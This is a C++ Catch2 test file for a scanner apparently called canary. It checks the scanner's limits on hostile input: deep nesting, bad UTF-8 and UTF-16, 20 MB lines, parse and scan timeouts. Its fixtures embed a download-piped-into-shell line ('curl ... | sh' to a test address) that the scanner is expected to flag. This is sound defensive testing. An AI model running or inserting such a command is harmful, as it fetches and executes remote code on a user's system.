// Hostile file contents (deep nesting, bad encodings, huge lines) and the
// limits on the tree-sitter and excerpt stages, end to end through canary.
#include <catch2/catch.hpp>

#include "hostile_support.hpp"
#include "support/artifact_builder.hpp"

namespace canary::test {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;

// A line the default pack always flags (a download piped into a shell), so
// each case can show that the file was really scanned.
const std::string kPipeToShell = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n";

}  // namespace

TEST_CASE("hostile: Python with 10,000 and 100,000 nested brackets", "[hostile]") {
  Sandbox box;
  for (int depth : {10000, 100000}) {
    const fs::path zip = box.input("deep" + std::to_string(depth) + ".zip");
    // The call inside the brackets puts a query's prefilter literal in the
    // deep statement: only statements holding one are parsed.
    const std::string deep = "x = " + std::string(size_t(depth), '[') + std::string(size_t(depth), ']') + "\n" +
                             "y = " + std::string(size_t(depth), '(') + "os.system('id')" +
                             std::string(size_t(depth), ')') + "\n";
    write_zip(zip, {FileSpec{"pkg/deep.py", deep + kPipeToShell}});
    json report;
    MeasuredRun r = scan_case(box, std::to_string(depth) + " nested brackets", zip, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"] == 1);
    CHECK_FALSE(finding_rules(report).empty());  // the pattern rules still see the line after it
    // Nesting Python cannot compile (200 levels at most) gets no queries;
    // 10,000 levels is past the 2,000 the scanner allows.
    CHECK(error_contains(report, "nested deeper than 2000 levels, which Python cannot compile"));
  }
}

TEST_CASE("hostile: invalid UTF-8 and UTF-16 with BOM are scanned, output stays valid", "[hostile]") {
  Sandbox box;
  const std::string bad_utf8 = "s = '\xff\xfe\xc0\x80\xed\xa0\x80'\n# \xf8\x88\x80\x80\x80\n" + kPipeToShell;
  std::string utf16 = "\xff\xfe";  // UTF-16LE with BOM: every other byte NUL
  for (char c : kPipeToShell) {
    utf16.push_back(c);
    utf16.push_back('\0');
  }
  const fs::path zip = box.input("enc.zip");
  write_zip(zip, {FileSpec{"pkg/bad_utf8.py", bad_utf8}, FileSpec{"pkg/utf16.py", utf16},
                  FileSpec{"pkg/\xff\xfename.py", "n = 1\n"}});
  json report;
  MeasuredRun r = scan_case(box, "invalid UTF-8, UTF-16 BOM", zip, report);
  CHECK(r.exit_code == 0);
  CHECK(report["files_scanned"] == 3);
  // The invalid UTF-8 file still matches (rules work on bytes); its excerpt
  // is valid UTF-8 (the JSON parsed) with the bad bytes escaped.
  bool utf8_found = false;
  for (const auto& f : report["findings"])
    if (f["file"].get<std::string>().find("bad_utf8.py") != std::string::npos) utf8_found = true;
  CHECK(utf8_found);

  // The table output escapes the same bytes for the terminal.
  MeasuredRun table = box.run({"scan", "--fail-on", "none", "--no-cache", "--no-config", "--color", "always", zip.string()});
  CHECK(table.exit_code == 0);
  CHECK(table.out.find("\xff\xfe") == std::string::npos);
}

TEST_CASE("hostile: a 20 MB single line is windowed in excerpts (--excerpt-width)", "[hostile]") {
  Sandbox box;
  const std::string pad(10u << 20, 'A');
  const fs::path zip = box.input("longline.zip");
  write_zip(zip, {FileSpec{"pkg/long.py", "x = '" + pad + "'; import os; os.system('curl -s http://192.0.2.7/p.sh | sh'); y = '" +
                                              pad + "'\n"}});
  json report;
  MeasuredRun r = scan_case(box, "20 MB line, default excerpt", zip, report);
  CHECK(r.exit_code == 0);
  REQUIRE_FALSE(report["findings"].empty());
  for (const auto& f : report["findings"]) CHECK(f["excerpt"].get<std::string>().size() <= 130);

  json narrow;
  scan_case(box, "20 MB line, --excerpt-width 40", zip, narrow, {"--excerpt-width", "40"});
  REQUIRE_FALSE(narrow["findings"].empty());
  for (const auto& f : narrow["findings"]) CHECK(f["excerpt"].get<std::string>().size() <= 48);
}

TEST_CASE("hostile: --parse-timeout and --query-match-limit say what they cut", "[hostile]") {
  Sandbox box;
  // Many calls make the parse long and every call a query match. In an
  // __init__.py, because there module-level process calls can fire a rule:
  // the scanner does not parse a module where no AST result could change a
  // finding.
  std::string calls;
  for (int i = 0; i < 200000; ++i) calls += "os.system(f(g(h(" + std::to_string(i) + "))))\n";
  const fs::path zip = box.input("calls.zip");
  write_zip(zip, {FileSpec{"pkg/__init__.py", "import os\n" + calls}});

  json timed;
  MeasuredRun t = scan_case(box, "--parse-timeout 1", zip, timed, {"--parse-timeout", "1"});
  CHECK(t.exit_code == 0);
  CHECK(error_contains(timed, "Python parse gave up after 1 ms (limit --parse-timeout)"));

  // The match limit is tree-sitter's bound on matches in progress at once;
  // whether these queries ever hold two depends on their shape, so only the
  // run is checked here: that the option is taken and the scan completes.
  json limited;
  MeasuredRun q = scan_case(box, "--query-match-limit 1", zip, limited, {"--query-match-limit", "1"});
  CHECK(q.exit_code == 0);
  CHECK(limited["files_scanned"] == 1);
}

TEST_CASE("hostile: --max-scan-time stops an artifact and says so", "[hostile]") {
  Sandbox box;
  // Twenty files that each take tree-sitter a good part of a second: far
  // more than the one-second budget, whatever the machine.
  std::string calls = "import os\n";
  for (int i = 0; i < 100000; ++i) calls += "os.system(f(g(h(" + std::to_string(i) + "))))\n";
  const fs::path tar = box.input("slow-1.0.tar.gz");
  {
    TarStream t(tar, true);
    for (int i = 0; i < 20; ++i) t.file("slow-1.0/m" + std::to_string(i) + ".py", calls);
  }
  json report;
  MeasuredRun r = scan_case(box, "--max-scan-time 1", tar, report, {"--max-scan-time", "1"});
  CHECK(r.exit_code == 0);
  CHECK(error_contains(report, "(limit --max-scan-time)"));
  CHECK(report["files_scanned"].get<int>() < 20);
}

TEST_CASE("hostile: --max-scan-time stops pattern matching inside one big file", "[hostile]") {
  Sandbox box;
  // 60 MB of one call that many of the default pack's expressions match:
  // Hyperscan reports millions of matches and needs several seconds for
  // them (about 13 MB/s here), far more than the one-second budget. Hyperscan
  // has no timeout of its own; the scanner's match callback stops it.
  const fs::path zip = box.input("calls.zip");
  {
    // Freed before canary runs: its peak RSS is measured apart from this process's.
    std::string calls = "import os\n";
    while (calls.size() < (60u << 20)) calls += "os.system(x)\n";
    write_zip(zip, {FileSpec{"pkg/m.py", calls}});
  }
  json report;
  MeasuredRun r = scan_case(box, "--max-scan-time 1, one big file", zip, report, {"--max-scan-time", "1"});
  CHECK(r.exit_code == 0);
  CHECK(report["files_scanned"] == 1);
  CHECK(error_contains(report, "pkg/m.py: pattern matching stopped: the artifact's time ran out after 1 s (limit "
                               "--max-scan-time); pattern and AST results for this file may be partial"));
}

}  // namespace canary::test
